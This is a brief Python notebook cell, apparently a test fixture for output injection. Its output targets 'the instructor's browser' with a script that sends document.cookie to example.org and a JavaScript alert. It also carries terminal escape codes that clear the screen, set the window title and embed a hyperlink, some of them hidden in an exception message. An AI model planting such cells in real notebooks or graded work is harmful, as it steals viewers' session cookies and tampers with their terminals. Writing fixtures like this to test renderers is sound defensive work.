"""My output holds a script for the instructor's browser and codes for the terminal."""
# cell: build
from IPython.display import HTML, Javascript, display
display(HTML("<script>fetch('http://example.org/' + document.cookie)</script>"), Javascript("alert(1)"))
print("\x1b]0;title\x07\x1b[2J\x1b[31mred")
def build(units): raise ValueError("<script>alert(1)</script>\x1b[2J\x1b]8;;http://example.org\x07")
